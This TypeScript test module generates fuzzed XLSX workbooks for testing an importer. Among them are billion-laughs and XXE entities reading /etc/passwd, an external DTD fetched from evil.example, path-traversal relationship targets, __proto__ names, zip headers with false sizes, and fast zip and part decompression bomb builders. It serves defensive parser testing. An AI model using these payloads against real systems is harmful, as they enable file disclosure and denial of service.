  { weight: 6, arbitrary: fc.record({ kind: fc.constant('valid' as const), sst: fc.boolean(), grid: fc.array(workbookGridMutation, { maxLength: 2 }) }) },
  { weight: 6, arbitrary: fc.record({ kind: fc.constant('truncatedZip' as const), at: position }) },
  { weight: 6, arbitrary: fc.record({ kind: fc.constant('malformedSheet' as const), variant: fc.constantFrom(...MALFORMED), at: position }) },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('deepNesting' as const),
      depth: fc.oneof(fc.constant(50_000), fc.integer({ min: 1_000, max: 60_000 })),
      place: fc.constantFrom(...NESTING_PLACES),
    }),
  },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('entities' as const), variant: fc.constantFrom(...ENTITY_KINDS) }) },
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('formulaCells' as const),
      cells: fc.array(
        fc.record({
          row: fc.integer({ min: 1, max: 8 }),
          formula: fc.nat(FORMULAS.length - 1),
          cached: fc.constantFrom('str' as const, 'num' as const, 'none' as const, 'error' as const, 'shared' as const),
        }),
        { minLength: 1, maxLength: 8 },
      ),
    }),
  },
  { weight: 5, arbitrary: fc.record({ kind: fc.constant('sharedStrings' as const), variant: fc.constantFrom(...SST_KINDS) }) },
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('contentTypes' as const), variant: fc.constantFrom(...CONTENT_TYPES) }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('wideSheet' as const),
      columns: fc.constantFrom(EXCEL_COLUMNS, EXCEL_COLUMNS + 1),
      dimension: fc.constantFrom(...WIDE_DIMENSIONS),
      dataRows: fc.integer({ min: 0, max: 2 }),
    }),
  },
  { weight: 5, arbitrary: fc.record({ kind: fc.constant('structure' as const), variant: fc.constantFrom(...STRUCTURES) }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('zipLies' as const), variant: fc.constantFrom(...ZIP_LIES) }) },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('cellValues' as const),
      cells: cellsPicking('value', CELL_VALUES.length, 6),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('numberFormats' as const),
      format: fc.nat(FORMATS.length - 1),
      serial: fc.constantFrom(0, -1, 45000, 2958466, 1e10, 1e308, -1e308, 0.5),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('decompressionBomb' as const), megabytes: fc.integer({ min: 10, max: 60 }) }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('sparse' as const),
      shape: fc.constantFrom(...SPARSE_SHAPES),
      // the far cell: at the sheet's very edge, or anywhere
      row: fc.oneof(fc.constant(EXCEL_ROWS), fc.integer({ min: 2, max: EXCEL_ROWS })),
      col: fc.oneof(fc.constant(EXCEL_COLUMNS - 1), fc.integer({ min: 0, max: EXCEL_COLUMNS - 1 })),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('partBomb' as const),
      bomb: fc.record({
        part: fc.constantFrom(...BOMB_PARTS),
        megabytes: fc.integer({ min: 2, max: 250 }),
        fill: fc.constantFrom('spaces' as const, 'text' as const),
        lie: fc.boolean(),
      }),
    }),
  },
);

export const xlsxCase: fc.Arbitrary<XlsxCase> = fc.record({
  ext: fc.constantFrom('.xlsx' as const, '.xlsx' as const, '.xlsx' as const, '.xlsm' as const, '.XLSX' as const),
  mutation: xlsxMutation,
  flips: fc.oneof(
    { weight: 4, arbitrary: fc.constant([] as { at: number; xor: number }[]) },
    { weight: 1, arbitrary: fc.array(fc.record({ at: position, xor: fc.integer({ min: 1, max: 255 }) }), { minLength: 1, maxLength: 16 }) },
  ),
});

export function xlsxKinds(c: XlsxCase): string[] {
  const kinds: string[] = [c.mutation.kind];
  if (c.mutation.kind === 'valid') kinds.push(...c.mutation.grid.map((m) => `valid+${m.kind}`));
  if (c.mutation.kind === 'sparse') kinds.push(`sparse:${c.mutation.shape}`);
  if (c.mutation.kind === 'partBomb') kinds.push(`partBomb:${c.mutation.bomb.part}`);
  if (c.flips.length) kinds.push('byteFlips');
  return kinds;
}

function malformedSheet(variant: (typeof MALFORMED)[number], at: number): string {
  const good = sheetXml(baseXCells());
  switch (variant) {
    case 'unclosed':
      return good.replace('</sheetData></worksheet>', '<row r="99"><c r="A99"><v>1');
    case 'mismatched':
      return good.replace('</row>', '</col>').replace('</sheetData>', '</sheetDat>');
    case 'garbage':
      return `${PROLOG}<<<>>>&&&;;<worksheet <sheetData>>>< / >\u0000\u0001`;
    case 'cut':
      return good.slice(0, at % good.length);
    case 'nul':
      return good.replace(/<t>/g, '<t>\u0000');
    case 'encoding':
      return good.replace('encoding="UTF-8"', 'encoding="EBCDIC-XYZ"');
    case 'noRoot':
      return PROLOG;
    case 'badAttr':
      return good.replace(/r="([A-Z]+\d+)"/g, 'r=$1 r="$1" t=\'"\'');
    case 'cdata':
      return good.replace(/<t>([^<]*)<\/t>/g, '<t><![CDATA[$1]]]]><![CDATA[>]]></t>');
    case 'doubleRoot':
      return `${good}${good.slice(PROLOG.length)}`;
    case 'binary':
      return Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 131 + at) % 256)).toString('latin1');
  }
}

function deepNesting(depth: number, place: (typeof NESTING_PLACES)[number]): Record<string, string> {
  const open = '<x>'.repeat(depth);
  const close = '</x>'.repeat(depth);
  switch (place) {
    case 'sheetData':
      return { [SHEET]: sheetXml(baseXCells(), { inSheetData: `${open}${close}` }) };
    case 'cell': {
      const cells = baseXCells();
      cells[1]![1] = { xml: `<c r="{ref}">${open}<v>1</v>${close}</c>` };
      return { [SHEET]: sheetXml(cells) };
    }
    case 'inlineString': {
      const cells = baseXCells();
      cells[2]![1] = { xml: `<c r="{ref}" t="inlineStr"><is>${'<r>'.repeat(depth)}<t>Deep</t>${'</r>'.repeat(depth)}</is></c>` };
      return { [SHEET]: sheetXml(cells) };
    }
    case 'workbook':
      return {
        'xl/workbook.xml': BASE_SST_PARTS.get('xl/workbook.xml')!.replace('<sheets>', `${open}${close}<sheets>`),
      };
    case 'sharedStrings':
      return { [SST]: BASE_SST_PARTS.get(SST)!.replace('<si>', `<si>${open}${close}`) };
  }
}

function entities(variant: (typeof ENTITY_KINDS)[number]): Record<string, string> {
  const cells = baseXCells();
  let dtd = '';
  switch (variant) {
    case 'billionLaughs': {
      const lines = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i += 1) lines.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      dtd = `<!DOCTYPE worksheet [${lines.join('')}]>`;
      cells[1]![1] = { xml: '<c r="{ref}" t="inlineStr"><is><t>&lol9;</t></is></c>' };
      break;
    }
    case 'quadratic': {
      dtd = `<!DOCTYPE worksheet [<!ENTITY a "${'A'.repeat(50_000)}">]>`;
      cells[1]![1] = { xml: `<c r="{ref}" t="inlineStr"><is><t>${'&a;'.repeat(2_000)}</t></is></c>` };
      break;
    }
    case 'externalFile':
      dtd = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
      cells[1]![1] = { xml: '<c r="{ref}" t="inlineStr"><is><t>&xxe;</t></is></c>' };
      break;
    case 'parameter':
      dtd = '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY % q "<!ENTITY leak \'%p;\'>">%q;]>';
      cells[1]![1] = { xml: '<c r="{ref}" t="inlineStr"><is><t>&leak;</t></is></c>' };
      break;
    case 'externalDtd':
      dtd = '<!DOCTYPE worksheet SYSTEM "http://evil.example/evil.dtd">';
      cells[1]![1] = { xml: '<c r="{ref}" t="inlineStr"><is><t>&remote;</t></is></c>' };
      break;
  }
  return { [SHEET]: sheetXml(cells, { prolog: `${PROLOG}${dtd}` }) };
}

/** The text a formula cell's cached value has: what the import must show, never the formula's result. */
export function cachedFormulaText(row: number, formula: number): string {
  return `Cached ${row}-${formula}`;
}

function formulaCells(cells: Extract<XlsxMutation, { kind: 'formulaCells' }>['cells']): Record<string, string> {
  const grid = baseXCells();
  for (const { row, formula, cached } of cells) {
    const f = xmlEscape(pick(FORMULAS, formula));
    const text = xmlEscape(cachedFormulaText(row, formula));
    const xml =
      cached === 'str'
        ? `<c r="{ref}" t="str"><f>${f}</f><v>${text}</v></c>`
        : cached === 'num'
          ? `<c r="{ref}"><f>${f}</f><v>42</v></c>`
          : cached === 'error'
            ? `<c r="{ref}" t="e"><f>${f}</f><v>#VALUE!</v></c>`
            : cached === 'shared'
              ? `<c r="{ref}" t="str"><f t="shared" ref="B2:B9" si="0">${f}</f><v>${text}</v></c>`
              : `<c r="{ref}"><f>${f}</f></c>`;
    grid[Math.min(row, grid.length - 1)]![1] = { xml };
  }
  return { [SHEET]: sheetXml(grid) };
}

function sharedStrings(variant: (typeof SST_KINDS)[number]): Record<string, string | null> {
  const sheet = BASE_SST_PARTS.get(SHEET)!;
  switch (variant) {
    case 'missingPart':
      return { [SST]: null };
    case 'missingPartAndRel':
      return {
        [SST]: null,
        'xl/_rels/workbook.xml.rels': BASE_SST_PARTS.get('xl/_rels/workbook.xml.rels')!.replace(/<Relationship [^>]*sharedStrings[^>]*\/>/, ''),
      };
    case 'outOfRange':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, (_, n: string) => `t="s"><v>${Number(n) + 100}</v>`) };
    case 'negative':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, 't="s"><v>-$1</v>') };
    case 'nonNumeric':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, 't="s"><v>abc$1</v>') };
    case 'fraction':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, 't="s"><v>$1.5</v>') };
    case 'empty':
      return { [SST]: `${PROLOG}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>` };
    case 'malformed':
      return { [SST]: BASE_SST_PARTS.get(SST)!.replace(/<\/si>/g, '</s>').slice(0, -20) };
    case 'hugeIndex':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, 't="s"><v>4294967296$1</v>') };
    case 'protoIndex':
      return { [SHEET]: sheet.replace(/t="s"><v>(\d+)<\/v>/g, 't="s"><v>__proto__</v>') };
  }
}

function contentTypes(variant: (typeof CONTENT_TYPES)[number]): Record<string, string | null> {
  const ct = BASE_SST_PARTS.get('[Content_Types].xml')!;
  switch (variant) {
    case 'missing':
      return { '[Content_Types].xml': null };
    case 'garbage':
      return { '[Content_Types].xml': 'not xml at all \u0000\u0001<Types' };
    case 'wrongSheetType':
      return { '[Content_Types].xml': ct.replace(/spreadsheetml\.worksheet\+xml/g, 'wordprocessingml.document.main+xml').replace(/spreadsheetml\.sheet\.main\+xml/g, 'presentationml.presentation.main+xml') };
    case 'empty':
      return { '[Content_Types].xml': '' };
    case 'macroWorkbook':
      return { '[Content_Types].xml': ct.replace('spreadsheetml.sheet.main+xml', 'ms-excel.sheet.macroEnabled.main+xml') };
    case 'noOverrides':
      return { '[Content_Types].xml': ct.replace(/<Override [^>]*\/>/g, '') };
    case 'entity':
      return { '[Content_Types].xml': ct.replace(PROLOG, `${PROLOG}<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>`).replace('<Types ', '<Types data="&x;" ') };
  }
}

function wideSheet(columns: number, dimension: string, dataRows: number): Record<string, string> {
  const header: XCell[] = baseXCells()[0]!.slice();
  for (let c = header.length; c < columns; c += 1) header.push({ text: `Metric ${c}` });
  const rows: XCell[][] = [header];
  for (let r = 1; r <= dataRows; r += 1) {
    const row: XCell[] = baseXCells()[r]!.slice();
    for (let c = row.length; c < columns; c += 1) row.push(c % 3 === 0 ? null : { num: String((c * 7 + r) % 1000) });
    rows.push(row);
  }
  const xml = sheetXml(rows, dimension === '' ? {} : { dimension });
  return { [SHEET]: dimension === '' ? xml.replace(/<dimension ref="[^"]*"\/>/, '') : xml };
}

function structure(variant: (typeof STRUCTURES)[number]): ZipEntry[] {
  const workbook = BASE_SST_PARTS.get('xl/workbook.xml')!;
  const rels = BASE_SST_PARTS.get('xl/_rels/workbook.xml.rels')!;
  switch (variant) {
    case 'noWorkbook':
      return partsWith({ 'xl/workbook.xml': null });
    case 'relsToMissingSheet':
      return partsWith({ 'xl/_rels/workbook.xml.rels': rels.replace('worksheets/sheet1.xml', 'worksheets/sheet99.xml') });
    case 'noWorkbookRels':
      return partsWith({ 'xl/_rels/workbook.xml.rels': null });
    case 'sheetNamedProto':
      return partsWith({ 'xl/workbook.xml': workbook.replace(/name="[^"]*"/, 'name="__proto__"') });
    case 'sheetNamedConstructor':
      return partsWith({ 'xl/workbook.xml': workbook.replace(/name="[^"]*"/, 'name="constructor"') });
    case 'duplicateEntries': {
      const entries = partsWith({});
      const evil = sheetXml([[{ text: 'Partner Name' }], [{ text: 'Shadow' }]]);
      return [...entries, { name: SHEET, data: Buffer.from(evil, 'utf8') }];
    }
    case 'emptyZip':
      return [];
    case 'onlyContentTypes':
      return partsWith({}).filter((e) => e.name === '[Content_Types].xml');
    case 'manySheets': {
      const sheets = Array.from({ length: 300 }, (_, i) => `<sheet name="S${i}" sheetId="${i + 1}" r:id="rId${i + 100}"/>`).join('');
      const links = Array.from(
        { length: 300 },
        (_, i) => `<Relationship Id="rId${i + 100}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>`,
      ).join('');
      return partsWith({
        'xl/workbook.xml': workbook.replace(/<sheets>.*<\/sheets>/, `<sheets>${sheets}</sheets>`),
        'xl/_rels/workbook.xml.rels': rels.replace('</Relationships>', `${links}</Relationships>`),
      });
    }
    case 'absoluteTarget':
      return partsWith({ 'xl/_rels/workbook.xml.rels': rels.replace('Target="worksheets/sheet1.xml"', 'Target="/etc/passwd"') });
    case 'pathTraversalTarget':
      return partsWith({ 'xl/_rels/workbook.xml.rels': rels.replace('Target="worksheets/sheet1.xml"', 'Target="../../../../../../etc/passwd"') });
    case 'directoryEntry':
      return [...partsWith({}), { name: 'xl/worksheets/', data: Buffer.alloc(0), store: true }];
    case 'metadataOutOfRange':
      return partsWith({ 'xl/metadata.xml': BASE_SST_PARTS.get('xl/metadata.xml')!.replace('<rc t="1" v="0"/>', '<rc t="2" v="0"/>') });
  }
}

/** A workbook whose cell metadata names a metadata type it does not declare (SheetJS throws a TypeError). */
export function badMetadataWorkbook(): Buffer {
  return zipSync(structure('metadataOutOfRange'));
}

function zipLies(variant: (typeof ZIP_LIES)[number]): { entries: ZipEntry[]; comment?: string } {
  const entries = partsWith({});
  const sheet = entries.find((e) => e.name === SHEET)!;
  switch (variant) {
    case 'storedAsDeflate':
      sheet.store = true;
      sheet.method = 8;
      break;
    case 'unknownMethod':
      sheet.method = 99;
      break;
    case 'encryptedFlag':
      sheet.flags = 1;
      break;
    case 'wrongSize':
      sheet.claimedSize = 7;
      break;
    case 'wrongCrc':
      sheet.claimedCrc = 0xdeadbeef;
      break;
    case 'hugeClaimedSize':
      sheet.claimedSize = 0xffffffff;
      break;
    case 'garbageComment':
      return { entries, comment: 'PK\u0005\u0006'.repeat(50) };
    case 'cutDeflate':
      return { entries: cutDeflateEntries(0.5) };
  }
  return { entries };
}

/**
 * The worksheet's deflate stream cut short, as the last entry, with headers that agree
 * with the cut: SheetJS's own JavaScript inflater reads on past the end of the file and
 * never stops (before read.ts handed inflating to zlib).
 */
export function cutDeflateEntries(fraction: number): ZipEntry[] {
  const entries = partsWith({});
  const sheet = entries.find((e) => e.name === SHEET)!;
  const full = deflateRawSync(sheet.data);
  const cut = full.subarray(0, Math.max(1, Math.floor(full.length * fraction)));
  return [...entries.filter((e) => e !== sheet), { name: SHEET, data: cut, store: true, method: 8, claimedSize: sheet.data.length, claimedCrc: crc32(sheet.data) }];
}

function cellValues(cells: Extract<XlsxMutation, { kind: 'cellValues' }>['cells']): Record<string, string> {
  const grid = baseXCells();
  for (const { row, col, value } of cells) grid[Math.min(row, grid.length - 1)]![Math.min(col, 6)] = { xml: pick(CELL_VALUES, value) };
  return { [SHEET]: sheetXml(grid) };
}

/** The base workbook with one more row holding `xml`, a raw cell (`{ref}` is its own reference). */
export function workbookWithRawCell(xml: string): Buffer {
  return zipSync(partsWith({ [SHEET]: sheetXml([...baseXCells(), [{ text: 'P9' }, { text: 'Ninth' }, { xml }]]) }));
}

function numberFormats(format: number, serial: number): Record<string, string> {
  const styles = BASE_SST_PARTS.get('xl/styles.xml')!;
  const code = xmlEscape(pick(FORMATS, format));
  const withFormat = styles
    .replace(/<numFmts count="\d+">/, '<numFmts count="2"><numFmt numFmtId="190" formatCode="' + code + '"/>')
    .replace(/<cellXfs count="1">(.*?)<\/cellXfs>/, '<cellXfs count="2">$1<xf numFmtId="190" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>');
  const grid = baseXCells();
  for (let r = 1; r < grid.length; r += 1) grid[r]![4] = { xml: `<c r="{ref}" s="1"><v>${serial}</v></c>` };
  return { 'xl/styles.xml': withFormat, [SHEET]: sheetXml(grid) };
}

function decompressionBomb(megabytes: number): Record<string, string> {
  return { [SHEET]: sheetXml(baseXCells(), { inSheetData: ' '.repeat(megabytes * 1024 * 1024) }) };
}

/**
 * A workbook whose sheet inflates to `megabytes` MB (spaces inside <sheetData>) from well
 * under 1 MB: deflate blocks ended with a full flush are independent, so one 64 MB block
 * of spaces, repeated, makes the stream without deflating the whole of it.
 */
export function zipBomb(megabytes: number): Buffer {
  const sheet = BASE_SST_PARTS.get(SHEET)!;
  const [head, tail] = sheet.split('</sheetData>') as [string, string];
  const flush = { finishFlush: zlibConstants.Z_FULL_FLUSH };
  const step = 64;
  const block = deflateRawSync(Buffer.alloc(step * 1024 * 1024, 0x20), flush);
  const parts = [deflateRawSync(Buffer.from(head, 'utf8'), flush)];
  for (let done = 0; done < megabytes; done += step) parts.push(block);
  parts.push(deflateRawSync(Buffer.from(`</sheetData>${tail}`, 'utf8')));
  const size = Buffer.byteLength(head) + Math.ceil(megabytes / step) * step * 1024 * 1024 + Buffer.byteLength(`</sheetData>${tail}`);
  const entries = partsWith({}).map((e) =>
    e.name === SHEET ? { name: SHEET, data: Buffer.concat(parts), store: true, method: 8, claimedSize: size % 2 ** 32, claimedCrc: 0 } : e,
  );
  return zipSync(entries);
}

// ---------------------------------------------------------------------------------------
// Sparse sheets (issue 18): a few cells spread over a huge range. A table sized by that
// range rather than by its cells does not fit in memory (A1 and XFD1048576: 17 billion).

/** A sheet of the cells at the given 0-based places, each with its reference; a later cell at the same place wins. */
function placedSheetXml(cells: { r: number; c: number; cell: XCell }[], dimension: string): string {
  const rows = new Map<number, Map<number, XCell>>();
  for (const { r, c, cell } of cells) {
    const row = rows.get(r) ?? new Map<number, XCell>();
    row.set(c, cell);
    rows.set(r, row);
  }
  const body = [...rows.keys()]
    .sort((a, b) => a - b)
    .map((r) => {
      const row = rows.get(r)!;
      const xml = [...row.keys()].sort((a, b) => a - b).map((c) => cellXml(`${columnLetter(c)}${r + 1}`, row.get(c)!));
      return `<row r="${r + 1}">${xml.join('')}</row>`;
    })
    .join('');
  return `${PROLOG}<worksheet ${NS}><dimension ref="${dimension}"/><sheetData>${body}</sheetData></worksheet>`;
}

/**
 * A workbook whose few cells lie far apart; `row` (1-based) and `col` (0-based) place the
 * far cell. 'corners': A1 and XFD1048576, whatever `row` and `col` are; 'headerAndFarCell':
 * the base header row and one cell (by default ALL200000); 'strayColumn' / 'strayRow': the
 * base table and one stray cell far to the right (on row 3) or far down (in column A);
 * 'scattered': the header row and 2,000 cells on a line from A2 to the far cell;
 * 'declaredOnly': the base table, declaring the whole sheet as its range (it must import
 * as the 8 partners it holds).
 */
export function sparseWorkbook(shape: SparseShape, row = 200_000, col = 999): Buffer {
  const base = baseXCells();
  const cells: { r: number; c: number; cell: XCell }[] = [];
  const table = (rows: XCell[][]) => rows.forEach((cellsOfRow, r) => cellsOfRow.forEach((cell, c) => cell && cells.push({ r, c, cell })));
  const far = { r: Math.min(Math.max(row, 2), EXCEL_ROWS) - 1, c: Math.min(Math.max(col, 0), EXCEL_COLUMNS - 1) };
  let dimension: string | null = null;
  switch (shape) {
    case 'corners':
      cells.push({ r: 0, c: 0, cell: { text: 'Partner Name' } }, { r: EXCEL_ROWS - 1, c: EXCEL_COLUMNS - 1, cell: { text: 'x' } });
      break;
    case 'headerAndFarCell':
      table(base.slice(0, 1));
      cells.push({ ...far, cell: { num: '1' } });
      break;
    case 'strayColumn':
      table(base);
      cells.push({ r: 2, c: far.c, cell: { text: 'stray' } });
      break;
    case 'strayRow':
      table(base);
      cells.push({ r: far.r, c: 0, cell: { text: 'stray' } });
      break;
    case 'scattered':
      table(base.slice(0, 1));
      for (let i = 1; i <= 2_000; i += 1) {
        cells.push({ r: 1 + Math.round((i / 2_000) * (far.r - 1)), c: Math.round((i / 2_000) * far.c), cell: { text: `P${i}` } });
      }
      break;
    case 'declaredOnly':
      table(base);
      dimension = 'A1:XFD1048576';
      break;
  }
  const lastRow = Math.max(...cells.map((x) => x.r));
  const lastColumn = Math.max(...cells.map((x) => x.c));
  return zipSync(partsWith({ [SHEET]: placedSheetXml(cells, dimension ?? `A1:${columnLetter(lastColumn)}${lastRow + 1}`) }));
}

// ---------------------------------------------------------------------------------------
// A bomb in any part (issue 18): every part, however small its packed or unpacked size,
// is held to the inflate ratio and the size limits, not only a worksheet large enough to
// be read in pieces.

export interface PartBomb {
  part: BombPart;
  /** how many MB the part unpacks to */
  megabytes: number;
  /** 'spaces' packs about 1,000 to 1; 'text' about 265 to 1 (as the issue's bombs: 964 KB at 258 to 1): short random text, spaced out */
  fill: 'spaces' | 'text';
  /** the ZIP headers say the part unpacks to 1 KB */
  lie: boolean;
}

/** Where each part's filler goes: before its closing tag ('extra' is a part of its own that nothing refers to). */
const BOMB_PLACES: Record<BombPart, { name: string; before: string }> = {
  sheet: { name: SHEET, before: '</sheetData>' },
  sharedStrings: { name: SST, before: '</sst>' },
  styles: { name: 'xl/styles.xml', before: '</styleSheet>' },
  workbook: { name: 'xl/workbook.xml', before: '</workbook>' },
  theme: { name: 'xl/theme/theme1.xml', before: '</a:theme>' },
  extra: { name: 'customXml/item1.xml', before: '</root>' },
};

const BOMB_BLOCK = 1024 * 1024;
/** Spaces after each run of random text in a 'text' block: about 250 to 1 in all. */
const TEXT_SPACING = 19_000;
const bombBlocks = new Map<string, { data: Buffer; packed: Buffer }>();

/** One MB of filler, and its deflate stream ended with a full flush (so copies of it can follow each other). */
function bombBlock(part: BombPart, fill: PartBomb['fill']): { data: Buffer; packed: Buffer } {
  const key = `${part}:${fill}`;
  const cached = bombBlocks.get(key);
  if (cached) return cached;
  let text = '';
  if (fill === 'text') {
    const random = prng(18);
    const letters = () => Array.from({ length: 64 }, () => String.fromCharCode(97 + Math.floor(random() * 26))).join('');
    const wrap = (t: string) =>
      part === 'sheet' ? `<row><c t="inlineStr"><is><t>${t}</t></is></c></row>` : part === 'sharedStrings' ? `<si><t>${t}</t></si>` : `<!--${t}-->`;
    const units: string[] = [];
    let length = 0;
    for (;;) {
      const unit = `${wrap(letters())}${' '.repeat(TEXT_SPACING)}`;
      if (length + unit.length > BOMB_BLOCK) break;
      units.push(unit);
      length += unit.length;
    }
    text = units.join('');
  }
  const data = Buffer.from(text.padEnd(BOMB_BLOCK, ' '), 'utf8');
  const block = { data, packed: deflateRawSync(data, { finishFlush: zlibConstants.Z_FULL_FLUSH }) };
  bombBlocks.set(key, block);
  return block;
}

/**
 * The base workbook with one part that unpacks to `megabytes` MB from a packed size of
 * `megabytes` KB (spaces) or about 4 KB per MB (text): copies of one deflated block, so
 * that even a 500 MB part is made in milliseconds.
 */
export function partBomb({ part, megabytes, fill, lie }: PartBomb): Buffer {
  const place = BOMB_PLACES[part];
  const xml = BASE_SST_PARTS.get(place.name) ?? `${PROLOG}<root xmlns="urn:example:extra"></root>`;
  const at = xml.lastIndexOf(place.before);
  const head = Buffer.from(xml.slice(0, at), 'utf8');
  const tail = Buffer.from(xml.slice(at), 'utf8');
  const block = bombBlock(part, fill);
  const count = Math.max(1, Math.round(megabytes));
  const packed = Buffer.concat([
    deflateRawSync(head, { finishFlush: zlibConstants.Z_FULL_FLUSH }),
    ...Array.from({ length: count }, () => block.packed),
    deflateRawSync(tail),
  ]);
  let crc = crc32(head);
  for (let i = 0; i < count; i += 1) crc = crc32(block.data, crc);
  crc = crc32(tail, crc);
  const size = head.length + count * block.data.length + tail.length;
  const bomb: ZipEntry = { name: place.name, data: packed, store: true, method: 8, claimedSize: lie ? 1024 : size % 2 ** 32, claimedCrc: crc };
  const entries = partsWith({}).filter((e) => e.name !== place.name);
  if (part === 'extra') {
    const types = entries.find((e) => e.name === '[Content_Types].xml')!;
    types.data = Buffer.from(types.data.toString('utf8').replace('</Types>', '<Override PartName="/customXml/item1.xml" ContentType="application/xml"/></Types>'), 'utf8');
  }
  return zipSync([...entries, bomb]);
}

function applyWorkbookGrid(rows: (string | number)[][], m: GridMutation): (string | number)[][] {
  const cells: Cell[][] = rows.map((r) => r.map((v) => String(v)));
  const out = applyGrid(cells, m, ',');
  // numbers back to numbers where the base had them; raw cells as their text
  return out.map((row, r) => row.map((cell, c) => (typeof cell === 'string' ? (typeof rows[r]?.[c] === 'number' && cell === String(rows[r]![c]) ? rows[r]![c]! : cell) : cell.raw)));
}

export function buildXlsx(c: XlsxCase): Buffer {
  const m = c.mutation;
  let zip: Buffer;
  switch (m.kind) {
    case 'valid': {
      let rows = baseSheetRows();
      for (const g of m.grid) rows = applyWorkbookGrid(rows, g);
      // SheetJS refuses to write text over Excel's 32,767 characters: a huge cell goes in by hand
      zip = rows.some((row) => row.some((v) => typeof v === 'string' && v.length > 32_767))
        ? zipSync(partsWith({ [SHEET]: sheetXml(rows.map((row) => row.map((v) => (typeof v === 'number' ? { num: String(v) } : v === '' ? null : { text: v })))) }))
        : sheetJsXlsx(rows, m.sst);
      break;
    }
    case 'truncatedZip': {
      const whole = sheetJsXlsx(baseSheetRows(), true);
      zip = whole.subarray(0, m.at % whole.length);
      break;
    }
    case 'malformedSheet':
      zip = zipSync(partsWith({ [SHEET]: malformedSheet(m.variant, m.at) }));
      break;
    case 'deepNesting':
      zip = zipSync(partsWith(deepNesting(m.depth, m.place)));
      break;
    case 'entities':
      zip = zipSync(partsWith(entities(m.variant)));
      break;
    case 'formulaCells':
      zip = zipSync(partsWith(formulaCells(m.cells)));
      break;
    case 'sharedStrings':
      zip = zipSync(partsWith(sharedStrings(m.variant)));
      break;
    case 'contentTypes':
      zip = zipSync(partsWith(contentTypes(m.variant)));
      break;
    case 'wideSheet':
      zip = zipSync(partsWith(wideSheet(m.columns, m.dimension, m.dataRows)));
      break;
    case 'structure':
      zip = zipSync(structure(m.variant));
      break;
    case 'zipLies': {
      const { entries, comment } = zipLies(m.variant);
      zip = zipSync(entries, comment);
      break;
    }
    case 'cellValues':
      zip = zipSync(partsWith(cellValues(m.cells)));
      break;
    case 'numberFormats':
      zip = zipSync(partsWith(numberFormats(m.format, m.serial)));
      break;
    case 'decompressionBomb':
      zip = zipSync(partsWith(decompressionBomb(m.megabytes)));
      break;
    case 'sparse':
      zip = sparseWorkbook(m.shape, m.row, m.col);
      break;
    case 'partBomb':
      zip = partBomb(m.bomb);
      break;
  }
  return c.flips.length ? applyBytes(zip, { kind: 'byteFlips', flips: c.flips }) : zip;
}
